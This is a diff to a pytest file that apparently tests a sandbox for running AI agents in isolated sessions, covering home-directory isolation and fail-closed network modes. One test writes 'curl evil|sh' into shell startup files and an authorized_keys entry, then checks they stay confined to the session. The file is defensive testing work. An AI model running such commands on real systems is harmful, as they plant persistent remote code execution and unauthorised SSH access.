@@ -9,7 +9,6 @@ import pty
 import signal
 import socket
 import subprocess
-import time
 import uuid
 from collections.abc import Iterator
 from pathlib import Path
@@ -257,22 +256,24 @@ def test_other_sessions_and_the_store_are_unreachable(actor: Actor) -> None:
     assert p.stdout.strip() == "done", p.stdout
 
 
-def test_agent_home_startup_files_are_read_only(actor: Actor) -> None:
+def test_agent_home_startup_files_changed_inside_stay_in_the_session(actor: Actor) -> None:
     repo = actor.make_repo()
     aihome = actor.home / "aihome"
     aihome.mkdir()
     (aihome / ".bashrc").write_text("# mine\n")
     actor.own(aihome)
     p = inside(actor, repo, "for f in .bashrc .profile .zshrc .gitconfig .bash_profile; do "
-               "echo 'curl evil|sh' >> ~/$f 2>/dev/null && echo WROTE $f; done; "
-               "mkdir -p ~/.ssh 2>/dev/null; "
-               "echo key > ~/.ssh/authorized_keys 2>/dev/null && echo WROTE ssh; "
-               "rm -f ~/.bashrc 2>/dev/null; test -e ~/.bashrc && echo still; "
-               "echo ok > ~/notes.txt && echo free")
-    assert "WROTE" not in p.stdout, p.stdout
-    assert "still" in p.stdout and "free" in p.stdout  # the rest of the home stays writable
+               "echo 'curl evil|sh' >> ~/$f && echo WROTE $f; done; "
+               "mkdir -p ~/.ssh && echo key > ~/.ssh/authorized_keys && echo WROTE ssh",
+               session="one")
+    assert p.stdout.count("WROTE") == 6, p.stdout  # the session's own copy is writable
     assert (aihome / ".bashrc").read_text() == "# mine\n"
-    assert "evil" not in (aihome / ".profile").read_text()
+    for f in (".profile", ".zshrc", ".bash_profile", ".ssh"):
+        assert not (aihome / f).exists()
+    assert "evil" not in (aihome / ".gitconfig").read_text()
+    p = inside(actor, repo, "cat ~/.bashrc ~/.profile ~/.gitconfig ~/.ssh/authorized_keys",
+               session="two")
+    assert "# mine" in p.stdout and "evil" not in p.stdout and "key" not in p.stdout, p.stdout
 
 
 def test_hidden_paths_are_empty_inside(actor: Actor) -> None:
@@ -314,22 +315,9 @@ for port in sys.argv[1:]:
 """
 
 
-@pytest.fixture
-def tun_usable() -> Iterator[None]:
-    path = "/dev/net/tun"
-    if not os.path.exists(path):
-        pytest.skip("no /dev/net/tun")
-    old = os.stat(path).st_mode & 0o777
-    if os.geteuid() == 0:
-        os.chmod(path, old | 0o666)
-    yield
-    if os.geteuid() == 0:
-        os.chmod(path, old)
-
-
 @pytest.mark.parametrize("mode", ["host", "none", "isolated"])
-def test_host_tcp_ports_per_network_mode(actor: Actor, two_ports: tuple[int, int], mode: str,
-                                         tun_usable: None) -> None:
+def test_host_tcp_ports_per_network_mode(actor: Actor, two_ports: tuple[int, int],
+                                         mode: str) -> None:
     allowed, other = two_ports
     repo = actor.make_repo()
     (repo / "probe.py").write_text(TCP_PROBE)
@@ -350,28 +338,22 @@ def test_allow_port_without_isolated_is_refused(actor: Actor) -> None:
     assert p.returncode == 2 and "--net isolated" in p.stderr
 
 
-def test_isolated_network_that_cannot_start_refuses_to_run_the_agent(
-    actor: Actor, tun_usable: None
-) -> None:
-    """Fail closed: when pasta fails, the agent never runs (and nothing is left running)."""
+def test_isolated_network_that_cannot_start_refuses_to_run_the_agent(actor: Actor) -> None:
+    """Fail closed: when the proxy cannot listen, the agent never runs (and nothing is left
+    running). Its socket dir is taken by a file in an existing session."""
     repo = actor.make_repo()
-    fakebin = actor.base / "fakebin"
-    fakebin.mkdir()
-    (fakebin / "pasta").write_text("#!/bin/sh\n"
-                                   "echo 'pasta: Couldn't open network namespace' >&2\n"
-                                   "exit 1\n")
-    (fakebin / "pasta").chmod(0o755)
-    actor.own(fakebin)
+    p = actor.agent("run", "-s", "nonet", "--net", "none", "--", "true", cwd=repo)
+    assert p.returncode == 0, p.stderr
+    [session] = (actor.home / ".local/state/git-agent").glob("*/sessions/nonet")
+    (session / "net").write_text("in the way\n")
+    actor.own(session / "net")
     marker = actor.home / "aihome" / "ran.txt"
-    env = {"PATH": f"{fakebin}:{actor.env['PATH']}"}
     p = actor.agent("run", "-s", "nonet", "--net", "isolated", "--",
-                    "sh", "-c", "echo ran > ~/ran.txt", cwd=repo, env=env)
+                    "sh", "-c", "echo ran > ~/ran.txt", cwd=repo)
     assert p.returncode != 0
-    assert [line for line in p.stderr.splitlines() if line.startswith("git agent:")], p.stderr
+    assert "git agent: cannot start the network proxy" in p.stderr, p.stderr
     assert "Traceback" not in p.stderr
-    time.sleep(0.5)
     assert not marker.exists()  # the agent never started
-    assert not list((actor.home / ".local/state/git-agent").glob("*/sessions/nonet"))
     left = subprocess.run(["pgrep", "-f", "echo ran > ~/ran.txt"], capture_output=True, text=True)
     assert left.stdout.strip() == "", left.stdout
 
